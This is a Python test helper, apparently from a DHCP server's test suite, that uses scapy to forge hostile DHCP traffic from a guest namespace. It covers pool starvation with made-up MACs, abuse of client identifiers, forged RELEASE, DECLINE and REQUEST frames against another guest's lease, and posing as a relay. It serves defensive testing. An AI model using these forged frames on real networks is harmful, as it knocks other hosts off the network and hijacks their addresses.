"""A hostile guest for the DHCP namespace tests: forged DHCP frames built with scapy.

Run inside a guest namespace:  python dhcp_forge.py ACTION 'JSON ARGUMENTS'
Every frame leaves from eth0's own MAC (Ethernet source) unless an action says
otherwise; the server's replies to port 68 are sniffed and summed up as one JSON
line on stdout, so the test checks what a guest would see.

  spoof {"count": N, "pool": [first, last]}   a SELECTING REQUEST for every pool
        address, then N DISCOVERs, each with a new made-up chaddr
  cids {"count": N, "pool": [...]}            REQUESTs from our own chaddr, each with
        another client identifier
  victim {"mac", "ip", "cid", "own_ip", "server"}   forged RELEASE / DECLINE / REQUEST
        against another guest's lease, one after the other
  relay {"own_ip", "server", "pool"}          posing as a relay (giaddr = our address):
        a DISCOVER and a REQUEST per pool address for made-up chaddrs
  watch {"seconds": T}                        every reply seen on eth0 for T seconds
"""

from __future__ import annotations

import ipaddress
import json
import os
import socket
import sys
import time
from typing import Any

from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, Packet, conf, get_if_hwaddr

conf.verb = 0
IFACE = "eth0"
OWN = get_if_hwaddr(IFACE)


def chaddr(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", "")) + bytes(10)


def random_mac() -> str:
    b = bytearray(os.urandom(6))
    b[0] = (b[0] & 0xFC) | 0x02  # locally administered, unicast
    return b.hex(":")


def frame(
    mac: str,
    xid: int,
    *opts: Any,
    src: str = OWN,
    ip_src: str = "0.0.0.0",
    ip_dst: str = "255.255.255.255",
    ciaddr: str = "0.0.0.0",
    broadcast: bool = True,
) -> bytes:
    eth = Ether(src=src, dst="ff:ff:ff:ff:ff:ff")
    bootp = BOOTP(chaddr=chaddr(mac), xid=xid, ciaddr=ciaddr, flags=0x8000 if broadcast else 0)
    pkt = eth / IP(src=ip_src, dst=ip_dst) / UDP(sport=68, dport=67) / bootp
    return bytes(pkt / DHCP(options=[*opts, "end"]))


def options(p: Packet) -> dict[str, Any]:
    return {o[0]: o[1] for o in p[DHCP].options if isinstance(o, tuple)}


TYPES = {2: "offer", 5: "ack", 6: "nak"}


def send_all(
    frames: list[bytes], rate: float, settle: float = 1.5, ports: str = "dst port 68"
) -> list[Packet]:
    """Send frames at `rate` per second; the BOOTREPLYs seen meanwhile and after."""
    sn = AsyncSniffer(iface=IFACE, filter=f"udp and ({ports})")
    sn.start()
    time.sleep(0.5)
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((IFACE, 0))
    for f in frames:
        raw.send(f)
        time.sleep(1 / rate)
    time.sleep(settle)
    raw.close()
    return [p for p in sn.stop() if BOOTP in p and p[BOOTP].op == 2]


def pool(args: dict[str, Any]) -> list[str]:
    lo, hi = (int(ipaddress.IPv4Address(a)) for a in args["pool"])
    return [str(ipaddress.IPv4Address(n)) for n in range(lo, hi + 1)]


def spoof(args: dict[str, Any]) -> dict[str, Any]:
    frames = [
        frame(
            random_mac(),
            5000 + i,
            ("message-type", "request"),
            ("server_id", args["server"]),
            ("requested_addr", ip),
        )
        for i, ip in enumerate(pool(args))
    ]
    frames += [
        frame(random_mac(), 1000 + i, ("message-type", "discover")) for i in range(args["count"])
    ]
    got = send_all(frames, args.get("rate", 300))
    kinds = [TYPES.get(options(p).get("message-type", 0), "?") for p in got]
    return {"offers": kinds.count("offer"), "acks": kinds.count("ack"), "sent": len(frames)}


def cids(args: dict[str, Any]) -> dict[str, Any]:
    addrs = pool(args)
    frames = [
        frame(
            OWN,
            7000 + i,
            ("message-type", "request"),
            ("server_id", args["server"]),
            ("requested_addr", addrs[i]),
            ("client_id", f"forger-{i}".encode()),
        )
        for i in range(args["count"])
    ]
    got = send_all(frames, args.get("rate", 20))
    acks = [p[BOOTP].yiaddr for p in got if options(p).get("message-type") == 5]
    return {"acks": len(acks), "addresses": sorted(set(acks))}


def victim(args: dict[str, Any]) -> dict[str, Any]:
    mac, ip, cid, server = args["mac"], args["ip"], bytes.fromhex(args["cid"]), args["server"]
    own_ip = args["own_ip"]
    steps = {
        # a RELEASE of the victim's address in the victim's name, from our MAC
        "release_foreign_mac": frame(
            mac,
            1,
            ("message-type", "release"),
            ("server_id", server),
            ("client_id", cid),
            ip_src=own_ip,
            ip_dst=server,
            ciaddr=ip,
            broadcast=False,
        ),
        # the same with the victim's MAC as Ethernet source too, but from our address
        "release_foreign_ip": frame(
            mac,
            2,
            ("message-type", "release"),
            ("server_id", server),
            ("client_id", cid),
            src=mac,
            ip_src=own_ip,
            ip_dst=server,
            ciaddr=ip,
            broadcast=False,
        ),
        # a DECLINE of the victim's address in the victim's name
        "decline": frame(
            mac,
            3,
            ("message-type", "decline"),
            ("server_id", server),
            ("requested_addr", ip),
            ("client_id", cid),
        ),
        # our own MAC with the victim's client identifier: renewing, then selecting
        "renew_with_cid": frame(
            OWN,
            4,
            ("message-type", "request"),
            ("client_id", cid),
            ip_src=own_ip,
            ip_dst=server,
            ciaddr=ip,
            broadcast=False,
        ),
        "select_with_cid": frame(
            OWN,
            5,
            ("message-type", "request"),
            ("client_id", cid),
            ("server_id", server),
            ("requested_addr", ip),
        ),
        "discover_with_cid": frame(OWN, 6, ("message-type", "discover"), ("client_id", cid)),
    }
    got = send_all(list(steps.values()), 3)
    out: dict[str, Any] = {}
    for n, name in enumerate(steps, 1):
        out[name] = [
            (TYPES.get(options(p).get("message-type", 0), "?"), p[BOOTP].yiaddr)
            for p in got
            if p[BOOTP].xid == n
        ]
    return out


def relay(args: dict[str, Any]) -> dict[str, Any]:
    own, server = args["own_ip"], args["server"]
    frames = []
    for i, ip in enumerate(pool(args)):
        mac = random_mac()
        for xid, opts in (
            (9000 + 2 * i, [("message-type", "discover")]),
            (9001 + 2 * i, [("message-type", "request"), ("server_id", server),
                            ("requested_addr", ip)]),
        ):  # fmt: skip
            eth = Ether(src=OWN, dst="ff:ff:ff:ff:ff:ff")
            bootp = BOOTP(chaddr=chaddr(mac), xid=xid, giaddr=own, hops=1)
            pkt = eth / IP(src=own, dst=server) / UDP(sport=67, dport=67) / bootp
            frames.append(bytes(pkt / DHCP(options=[*opts, "end"])))
    got = send_all(frames, args.get("rate", 300), ports="dst port 67 or dst port 68")
    return {"replies": len(got), "sent": len(frames)}


def watch(args: dict[str, Any]) -> dict[str, Any]:
    sn = AsyncSniffer(iface=IFACE, filter="udp and dst port 68")
    sn.start()
    print("watching", flush=True)
    time.sleep(args["seconds"])
    seen = []
    for p in sn.stop():
        if BOOTP in p and p[BOOTP].op == 2:
            o = options(p)
            cid = o.get("client_id")
            seen.append(
                {
                    "type": TYPES.get(o.get("message-type", 0), "?"),
                    "client_id": cid.hex() if isinstance(cid, bytes) else None,
                }
            )
    return {"replies": seen}


if __name__ == "__main__":
    actions = {"spoof": spoof, "cids": cids, "victim": victim, "relay": relay, "watch": watch}
    action = actions[sys.argv[1]]
    print(json.dumps(action(json.loads(sys.argv[2]))), flush=True)
